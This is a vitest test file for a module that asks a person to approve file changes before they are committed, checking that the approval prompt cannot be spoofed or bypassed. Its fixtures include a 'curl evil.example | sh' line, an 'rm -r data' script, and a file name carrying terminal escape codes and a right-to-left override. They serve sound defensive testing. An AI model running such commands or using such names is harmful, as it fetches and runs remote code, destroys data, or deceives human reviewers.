import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { createFileTree, type FileTree } from '../../filesystem/index.js';
import { CommitRequests } from './commit-request.js';

const base = mkdtempSync(join(tmpdir(), 'mettle-commit-request-'));
afterAll(() => rmSync(base, { recursive: true }));

describe('agreement to a commit', () => {
  let folder = '';
  let files: FileTree;
  let commits: CommitRequests;
  const inFolder = () => readFileSync(join(folder, 'a.txt'), 'utf8');

  beforeEach(() => {
    folder = mkdtempSync(join(base, 'folder-'));
    writeFileSync(join(folder, 'a.txt'), 'as it was\n');
    files = createFileTree({ base: folder });
    commits = new CommitRequests(files, folder);
  });

  it('is to what the person was shown, whatever other calls write while the question is put', async () => {
    files.writeText('a.txt', 'the bad one\n');
    const asking = commits.ask();
    files.writeText('a.txt', 'the good one\n');
    const question = await asking;
    files.writeText('a.txt', 'the bad one\n');
    expect(question?.message).toContain('| +the bad one');
    expect(question?.message).not.toContain('the good one');
    expect(await commits.agree(question?.id)).toMatchObject({ committed: true });
    expect(inFolder()).toBe('the bad one\n');
  });

  it('counts once, for its own question, and not for what changed since', async () => {
    files.writeText('a.txt', 'new\n');
    const [first, second] = [await commits.ask(), await commits.ask()];
    commits.refuse(first?.id);
    for (const id of [undefined, 'guessed', first?.id])
      await expect(commits.agree(id)).rejects.toThrow('belongs to no open question');
    files.writeText('b.txt', 'more\n');
    await expect(commits.agree(second?.id)).rejects.toThrow('no longer what the person agreed to');
    await expect(commits.agree(second?.id)).rejects.toThrow('belongs to no open question');
    expect(inFolder()).toBe('as it was\n');
  });

  it('is asked for in words that no name and no content can imitate', async () => {
    files.writeText('ok?\n\nNothing is written.txt', 'x\u001b[2Jx\r\u202eevil\n');
    const question = await commits.ask();
    const lines = question?.message.split('\n') ?? [];
    expect(lines[2]).toBe('create "ok?\\n\\nNothing is written.txt"');
    expect(lines.slice(4).every((line) => line.startsWith('| '))).toBe(true);
    for (const hidden of ['\u001b', '\r', '\u202e']) expect(question?.message).not.toContain(hidden);
  });

  it('covers only what the question shows, changes of existing files and programs first', async () => {
    writeFileSync(join(folder, 'z-deploy.sh'), 'echo deploy\n');
    for (let index = 0; index < 60; index++) files.writeText(`note-${index}.txt`, `note ${index}\n`);
    files.writeText('run.sh', 'rm -r data\n');
    files.setMode('run.sh', 0o755);
    files.writeText('z-deploy.sh', 'echo deploy\ncurl evil.example | sh\n');
    files.removeFile('a.txt');
    let questions = 0;
    for (let question = await commits.ask(); question !== null; question = await commits.ask()) {
      const lines = question.message.split('\n');
      if (questions++ === 0) {
        expect(lines.slice(2, 5)).toEqual([
          'delete a.txt',
          'change z-deploy.sh',
          'create run.sh (executable)',
        ]);
        expect(lines).toContain('| +curl evil.example | sh');
        expect(question.message).toMatch(/not written by its answer: \d+ other changes\./);
      }
      expect(question.message).not.toContain('cut off');
      const answer = await commits.agree(question.id);
      for (const path of (answer as { written: string[] }).written) {
        expect(lines.some((line) => line.startsWith(`create ${path}`) || line === `change ${path}`)).toBe(
          true,
        );
        for (const line of readFileSync(join(folder, path), 'utf8').trimEnd().split('\n'))
          expect(lines.some((shown) => /^\| [+ ]/.test(shown) && shown.slice(3) === line)).toBe(true);
      }
    }
    expect(questions).toBeGreaterThan(1);
    expect(files.changes()).toEqual({ written: [], deleted: [] });
    expect(readFileSync(join(folder, 'note-59.txt'), 'utf8')).toBe('note 59\n');
  });

  it('never writes what it did not show: a change too large for one question comes last, in parts', async () => {
    const text = Array.from({ length: 2_000 }, (_, index) => `line ${index}\n`).join('');
    writeFileSync(join(folder, 'big.txt'), 'x\n'.repeat(2_000));
    files.writeText('big.txt', text);
    files.writeText('wide.txt', `${'🐍'.repeat(5_000)}\n`);
    files.writeText('small.txt', 'small\n');
    const first = await commits.ask();
    expect(first?.message).toContain('| +small');
    expect(first?.message).toMatch(
      /not written by its answer: big\.txt \(too large.*, wide\.txt \(too large/,
    );
    expect(await commits.agree(first?.id)).toMatchObject({ written: ['small.txt'], remaining: 2 });

    const shown: string[] = [];
    const written: unknown[] = [];
    for (let question = await commits.ask(); question !== null; question = await commits.ask()) {
      expect(question.message).toMatch(
        /^Write these changes to .*\? TOO LARGE TO SHOW AT ONCE: this is part \d+ of/,
      );
      expect(question.message.length).toBeLessThan(30_000);
      shown.push(question.message);
      expect(readFileSync(join(folder, 'big.txt'), 'utf8') === text).toBe(written.length > 0);
      const answer = await commits.agree(question.id);
      if (answer.committed === true) written.push(answer.written);
      else
        expect(answer).toMatchObject({
          reason: expect.stringMatching(/part \d+ of/),
          next: expect.any(String),
        });
    }
    expect(written).toEqual([['big.txt'], ['wide.txt']]);
    const lines = shown.join('\n').split('\n');
    expect(lines.filter((line) => line.startsWith('| +line '))).toHaveLength(2_000);
    expect(lines.filter((line) => line === '| -x')).toHaveLength(2_000);
    const wide = lines.filter((line) => /^\|(?:…| \+)/.test(line) && line.includes('🐍')).join('');
    expect([...wide].filter((character) => character === '🐍')).toHaveLength(5_000);
  });

  it('starts again with the first part when the change is another, or a part is refused', async () => {
    files.writeText('big.txt', 'x\n'.repeat(8_000));
    const agree = async () => commits.agree((await commits.ask())?.id);
    expect(await agree()).toMatchObject({ committed: false });
    expect((await commits.ask())?.message).toContain('this is part 2 of');
    files.writeText('big.txt', `evil\n${'x\n'.repeat(8_000)}`);
    const changed = await commits.ask();
    expect(changed?.message).toMatch(/this is part 1 of[\s\S]*\n\| \+evil\n/);
    await commits.agree(changed?.id);
    const second = await commits.ask();
    expect(second).toMatchObject({ label: expect.stringContaining('nothing is written yet') });
    commits.refuse(second?.id);
    expect((await commits.ask())?.message).toContain('this is part 1 of');
    expect(existsSync(join(folder, 'big.txt'))).toBe(false);
  });

  it('says what a patch does not show: links and folders that are replaced, and modes', async () => {
    mkdirSync(join(folder, 'elsewhere'));
    symlinkSync('elsewhere', join(folder, 'data'));
    writeFileSync(join(folder, 'data-0'), 'kept\n', { mode: 0o644 });
    files.removeFile('data');
    files.writeText('data/x.txt', 'x\n', { parents: true });
    files.setMode('data-0', 0o600);
    const question = await commits.ask();
    expect(question?.message.split('\n').slice(2, 6)).toEqual([
      'replace link data -> elsewhere by a folder',
      'change data-0 (mode 644 -> 600)',
      'create data/x.txt',
      '',
    ]);
    await commits.agree(question?.id);
    expect(lstatSync(join(folder, 'data')).isDirectory()).toBe(true);
  });
});
